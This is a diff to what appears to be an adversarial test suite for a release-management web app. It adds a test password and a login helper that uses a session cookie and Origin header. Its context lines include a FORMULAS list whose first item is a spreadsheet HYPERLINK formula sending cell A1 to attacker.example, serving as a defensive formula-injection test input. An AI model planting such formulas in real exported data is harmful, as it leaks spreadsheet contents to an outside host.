@@ -24,6 +24,8 @@ from tests.support.databases import execute_db, query_db
 from tests.support.graphql import GraphQLClient, add_principal, new_secret
 from tests.support.server import serve_asgi
 
+PASSWORD = "a long enough report password"
+
 APP = "ADV"
 # Release names a spreadsheet would run as formulas if written as they are.
 FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
@@ -50,6 +52,15 @@ class Recorder(logging.Handler):
         if record.exc_info:
             text += logging.Formatter().formatException(record.exc_info)
         self.lines.append(f"{record.name}: {text}")
+
+
+def signed_in(base_url: str, username: str) -> GraphQLClient:
+    """A browser-like client of `username`: a session cookie and the site's own Origin."""
+    client = GraphQLClient(base_url, headers={"Origin": base_url})
+    response = client.http.post("/auth/login", json={"username": username,
+                                                     "password": PASSWORD})
+    assert response.status_code == 204, response.text
+    return client
 
 
 @dataclass
@@ -87,7 +98,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
 
     async def owner(sessions: Any) -> None:
         await add_principal(sessions, username="adversarial-owner",
-                            role=m.Role.RELEASE_MANAGER, token=token)
+                            role=m.Role.RELEASE_MANAGER, token=token, password=PASSWORD)
 
     recorder = Recorder()
     root = logging.getLogger()
@@ -99,7 +110,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
                              limits={"rate_limit_burst": 1000, "rate_limit_per_minute": 6000})
     try:
         with serve_asgi(create_app(settings, startup=[owner])) as base_url:
-            client = GraphQLClient(base_url, token=token)
+            client = signed_in(base_url, "adversarial-owner")
             client.data("""mutation { createApplication(input: {key: "ADV",
                            name: "Adversarial"}) { key } }""")
             for number, name in enumerate(FORMULAS, start=1):
